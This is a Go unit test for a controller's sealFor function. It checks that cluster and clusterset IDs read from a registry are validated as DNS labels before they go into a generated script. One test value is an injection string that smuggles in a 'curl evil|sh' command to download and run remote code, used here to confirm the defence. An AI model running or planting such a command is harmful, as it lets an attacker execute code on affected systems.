package show

import (
	"strings"
	"testing"

	"github.com/cloud-map-mcs/cloud-map-mcs-controller/internal/mcs"
	"github.com/cloud-map-mcs/cloud-map-mcs-controller/internal/status"
)

// TestSealFor_ChecksIDs: IDs that the controller read from the registry get into no script.
func TestSealFor_ChecksIDs(t *testing.T) {
	const hostile = "x; curl evil|sh #"
	for name, tt := range map[string]struct {
		clusterSet, cluster, wantErr string
	}{
		"valid IDs":                {clusterSet: "set1", cluster: "cls2"},
		"a hostile ID of a member": {clusterSet: "set1", cluster: hostile, wantErr: `ID "x; curl evil|sh #" is not a DNS label`},
		"a hostile clusterset":     {clusterSet: hostile, cluster: "cls2", wantErr: `ID "x; curl evil|sh #" is not a DNS label`},
	} {
		t.Run(name, func(t *testing.T) {
			script, err := sealFor(&status.Status{
				Leader: true, Registry: "cloudmap", Identity: &mcs.Identity{ClusterID: "cls1", ClusterSetID: tt.clusterSet},
				Members: []status.Member{{ClusterID: tt.cluster, Key: "key"}},
			}, nil)
			if tt.wantErr == "" && (err != nil || !strings.Contains(script, "for cluster in cls2;")) {
				t.Errorf("error %v and script %q, want a script for cls2", err, script)
			}
			if tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr) || script != "") {
				t.Errorf("error %v and script %q, want the error %q", err, script, tt.wantErr)
			}
		})
	}
}
